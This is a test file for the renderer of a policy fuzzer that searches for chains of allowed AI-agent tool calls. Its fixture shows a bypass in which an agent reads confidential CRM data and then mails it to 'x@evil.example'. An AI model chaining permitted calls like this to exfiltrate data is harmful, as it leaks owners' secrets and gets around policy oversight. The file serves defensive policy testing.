import { expect, it } from "vitest";
import { render } from "./render.js";
import type { Report } from "./report.js";

const step = {
  n: 1,
  id: "c1",
  session: "s1",
  subject: { id: "agent-a" },
  tool: "crm.read",
  arguments: { record: "r1" },
  effect: "allow",
  rules: ["crm/reads"],
  adds: "reads data that carries `confidential`",
};
const report: Report = {
  kind: "fuzz",
  result: {
    seed: 1,
    budget: 5000,
    engine: "opa-wasm 1.10.0",
    artifact: "sha256:0123",
    decisions: 812,
    sequences: 40,
    actions: 24,
    goals: [
      {
        name: "confidentialLeaves",
        title: "Confidential data leaves",
        bypass: {
          world: "office",
          steps: [
            step,
            { ...step, n: 2, id: "c2", tool: "mail.send", arguments: { to: ["x@evil.example"], body: "a" } },
          ],
          outcome: "data labelled `confidential` has reached `x@evil.example`",
        },
      },
      { name: "overspend", title: "More than 500 are paid", bypass: null },
    ],
    neverAllowed: [{ tool: "shell.run", rules: ["action-gate/unlistedCommand"] }],
    command: "policy fuzz --seed 1 --budget 5000",
  },
  written: new Map([["confidentialLeaves", "scenarios/fuzz/confidential-leaves.yaml"]]),
};

it("prints a bypass as a chain of calls that reads like a story", () => {
  expect(render(report, "pretty", false)).toMatchInlineSnapshot(`
    "BYPASS confidentialLeaves: Confidential data leaves
      in the world office, 2 calls, each allowed

      1. agent-a in s1: crm.read(record: "r1")
         allow by crm/reads; reads data that carries \`confidential\`
      2. agent-a in s1: mail.send(to: ["x@evil.example"], body: "a")
         allow by crm/reads; reads data that carries \`confidential\`

      data labelled \`confidential\` has reached \`x@evil.example\`
      written as a scenario that fails until this is mended: scenarios/fuzz/confidential-leaves.yaml

    no call of these was allowed, so the search says nothing about them
      shell.run  stopped by action-gate/unlistedCommand

    held overspend: More than 500 are paid

    2 goals: 1 reached by calls that are each allowed
    812 decisions over 40 sequences of 24 possible calls, budget 5000, seed 1
    engine opa-wasm 1.10.0, artifact sha256:0123
    again: policy fuzz --seed 1 --budget 5000
    "
  `);
});

it("prints every goal with its chain, or null", () => {
  const json = JSON.parse(render(report, "json", false));
  expect(json.goals[0].bypass.scenario).toBe("scenarios/fuzz/confidential-leaves.yaml");
  expect(json.goals[0].bypass.steps[0].subject).toBe("agent-a");
  expect(json.goals[1]).toEqual({ name: "overspend", title: "More than 500 are paid", bypass: null });
});
